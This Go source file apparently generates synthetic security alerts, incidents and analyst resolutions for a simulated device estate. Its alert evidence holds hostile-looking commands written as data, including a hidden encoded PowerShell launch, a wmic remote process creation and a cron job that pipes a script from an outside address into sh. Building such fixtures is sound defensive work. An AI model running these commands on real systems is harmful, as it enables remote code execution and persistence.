package estate

import (
	"fmt"
	"slices"
	"strings"
	"time"
)

// detection is a kind of alert that the estate raises in ordinary life.
type detection struct {
	title, severity, category, source string
	description                       string
	techniques                        []string
	family                            string
	on                                func(Machine) bool
	evidence                          func(m Machine, at time.Time) []Evidence
}

func isWindows(m Machine) bool { return strings.HasPrefix(m.OSPlatform, "Windows") }
func isLinux(m Machine) bool {
	return m.OSPlatform == ubuntu.platform || m.OSPlatform == redHat.platform
}

func isDesktop(m Machine) bool {
	return isWindows(m) && !strings.HasPrefix(m.OSPlatform, "WindowsServer") && len(m.Users) > 0
}
func anyMachine(Machine) bool { return true }

func mainUser(m Machine) User {
	if len(m.Users) == 0 {
		return User{AccountName: "root", AccountDomain: m.ShortName()}
	}
	return m.Users[0]
}

var detections = []detection{
	{
		title: "Suspicious PowerShell command line", severity: "High", category: "Execution", source: "WindowsDefenderAtp",
		description: "A suspicious PowerShell command line was started. It decodes its own text and downloads from the internet, which administrators rarely do.",
		techniques:  []string{"T1059.001", "T1027"}, on: isDesktop,
		evidence: func(m Machine, at time.Time) []Evidence {
			parent := process{file: "cmd.exe", folder: system32, id: 5120}
			p := process{
				file: "powershell.exe", folder: powershell, id: 7344, parent: &parent, status: "Detected",
				command: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
			}
			return []Evidence{p.evidence(at), ipEvidence(at, commandServer)}
		},
	},
	{
		title: "Hands-on-keyboard attack involving multiple devices", severity: "High", category: "LateralMovement", source: "WindowsDefenderAtp",
		description: "Actions on this device resemble a person at a keyboard who moves between devices with a stolen account.",
		techniques:  []string{"T1021.002", "T1078"}, on: isDesktop,
		evidence: func(m Machine, at time.Time) []Evidence {
			p := process{file: "wmic.exe", folder: system32, id: 9216, status: "Detected", command: "wmic.exe /node:srv-app-03 process call create cmd.exe"}
			return []Evidence{p.evidence(at)}
		},
	},
	{
		title: "Suspicious process injection observed", severity: "Medium", category: "DefenseEvasion", source: "WindowsDefenderAtp",
		description: "A process wrote to the memory of another and started a thread there.",
		techniques:  []string{"T1055"}, on: isDesktop,
		evidence: func(m Machine, at time.Time) []Evidence {
			parent := process{file: "explorer.exe", folder: `C:\Windows`, id: 4412}
			p := process{file: "rundll32.exe", folder: system32, id: 6680, parent: &parent, status: "Detected", command: `rundll32.exe C:\ProgramData\cache.dll,Start`}
			return []Evidence{p.evidence(at), fileEvidence(at, `C:\ProgramData`, "cache.dll", "Detected")}
		},
	},
	{
		title: "An uncommon file was created and added to a Run key", severity: "Medium", category: "Persistence", source: "WindowsDefenderAtp",
		description: "A file that few devices have was created and will start with every logon.",
		techniques:  []string{"T1547.001"}, on: isDesktop,
		evidence: func(m Machine, at time.Time) []Evidence {
			return []Evidence{
				fileEvidence(at, downloads(mainUser(m)), "updater.exe", "Detected"),
				registryEvidence(at, "HKEY_CURRENT_USER", `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "String", downloads(mainUser(m))+`\updater.exe`),
			}
		},
	},
	{
		title: "Suspicious remote logon from an unusual place", severity: "Medium", category: "InitialAccess", source: "WindowsDefenderAtp",
		description: "An account logged on over the network from an address it has not used before.",
		techniques:  []string{"T1078"}, on: func(m Machine) bool { return strings.HasPrefix(m.OSPlatform, "WindowsServer") },
		evidence: func(m Machine, at time.Time) []Evidence {
			return []Evidence{ipEvidence(at, "198.51.100.201")}
		},
	},
	{
		title: "Suspicious cron job created", severity: "Medium", category: "Persistence", source: "WindowsDefenderAtp",
		description: "A new cron job fetches a script from the internet and runs it.",
		techniques:  []string{"T1053.003"}, on: isLinux,
		evidence: func(m Machine, at time.Time) []Evidence {
			p := process{file: "crontab", folder: "/usr/bin", id: 22871, status: "Detected", command: "crontab -l; echo '*/5 * * * * curl -s http://203.0.113.80/x | sh'"}
			return []Evidence{p.evidence(at), ipEvidence(at, "203.0.113.80")}
		},
	},
	{
		title: "'CryptInject' malware was prevented", severity: "Low", category: "Malware", source: "WindowsDefenderAv", family: "CryptInject",
		description: "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines.\n\nThis detection was blocked before the file could run.",
		techniques:  []string{}, on: isDesktop,
		evidence: func(m Machine, at time.Time) []Evidence {
			return []Evidence{fileEvidence(at, downloads(mainUser(m)), "invoice_viewer.exe", "Prevented")}
		},
	},
	{
		title: "Connection to a known phishing site", severity: "Low", category: "InitialAccess", source: "CustomTI",
		description: "A browser opened a page that is known for stealing passwords. The connection was blocked.",
		techniques:  []string{"T1566.002"}, on: isDesktop,
		evidence: func(m Machine, at time.Time) []Evidence {
			return []Evidence{urlEvidence(at, "https://"+phishingHost+"/signin"), ipEvidence(at, "203.0.113.21")}
		},
	},
	{
		title: "Unwanted software 'Toolbar' was found", severity: "Informational", category: "UnwantedSoftware", source: "WindowsDefenderAv", family: "Toolbar",
		description: "Software that changes settings of the browser was found and removed.",
		techniques:  []string{}, on: isDesktop,
		evidence: func(m Machine, at time.Time) []Evidence {
			return []Evidence{fileEvidence(at, downloads(mainUser(m)), "toolbar_setup.exe", "Blocked")}
		},
	},
	{
		title: "Sensor was restarted", severity: "Informational", category: "SuspiciousActivity", source: "CustomDetection",
		description: "The sensor of this device was restarted.",
		techniques:  []string{}, on: anyMachine,
		evidence: func(Machine, time.Time) []Evidence { return nil },
	},
}

// analyst is who dealt with the alerts of the past.
const analyst = "soc.analyst@contoso.com"

// alerts raises three weeks of ordinary alerts. What is older than two days has
// been dealt with, most of what is newer has not.
func (g *generator) alerts() {
	const count = 72
	var times []time.Time
	for range count {
		times = append(times, g.ago(20*time.Minute, 20*day))
	}
	// A fresh High one, so that a list of the last day is never dull.
	times = append(times, g.now.Add(-17*time.Minute))
	slices.SortFunc(times, time.Time.Compare)
	for i, at := range times {
		d := detections[i%len(detections)]
		if i == len(times)-1 {
			d = detections[0]
		}
		m := g.victim(d)
		a := d.alert(g.estate.Tenant, m, at, int32(g.rand.Uint32()))
		a.IncidentID = g.incident(a, i)
		if g.now.Sub(at) > 2*day {
			g.resolve(&a)
		} else if i%4 == 0 {
			a.Status, a.AssignedTo = "InProgress", ptr(analyst)
			a.LastUpdateTime = At(at.Add(9 * time.Minute))
		}
		g.estate.Alerts = append(g.estate.Alerts, a)
	}
}

func (d detection) alert(tenant string, m Machine, at time.Time, n int32) Alert {
	a := NewAlert(tenant, m, at, n, d.severity, d.title)
	a.Description, a.Category, a.DetectionSource = d.description, d.category, d.source
	a.MitreTechniques = slices.Clone(d.techniques)
	if d.family != "" {
		a.ThreatFamilyName = ptr(d.family)
	}
	a.Evidence = append(a.Evidence, d.evidence(m, at)...)
	return a
}

func (g *generator) victim(d detection) Machine {
	for {
		if m := pick(g, g.estate.Machines); m.OnboardingStatus == "Onboarded" && m.MergedIntoMachineID == nil && !m.Offline && d.on(m) {
			return m
		}
	}
}

// incident puts every third alert into the incident before it.
func (g *generator) incident(a Alert, i int) int64 {
	n := len(g.estate.Incidents)
	if i%3 == 1 && n > 0 {
		last := &g.estate.Incidents[n-1]
		last.AlertIDs = append(last.AlertIDs, a.ID)
		return last.ID
	}
	in := Incident{ID: int64(4100 + n), Name: a.Title, AlertIDs: []string{a.ID}}
	if a.ComputerDNSName != nil {
		in.Name = fmt.Sprintf("%s on one endpoint", a.Title)
	}
	g.estate.Incidents = append(g.estate.Incidents, in)
	return in.ID
}

func (g *generator) resolve(a *Alert) {
	done := At(a.AlertCreationTime.Add(time.Duration(20+g.rand.IntN(600)) * time.Minute))
	a.Status, a.ResolvedTime, a.LastUpdateTime = "Resolved", done, done
	a.AssignedTo = ptr(analyst)
	a.InvestigationState = "SuccessfullyRemediated"
	if a.Severity == "Informational" {
		a.Classification, a.Determination = ptr("InformationalExpectedActivity"), ptr("LineOfBusinessApplication")
		return
	}
	a.Classification, a.Determination = ptr("TruePositive"), ptr("Malware")
	a.Comments = append(a.Comments, Comment{Comment: "Cleaned and checked.", CreatedBy: analyst, CreatedTime: done})
}
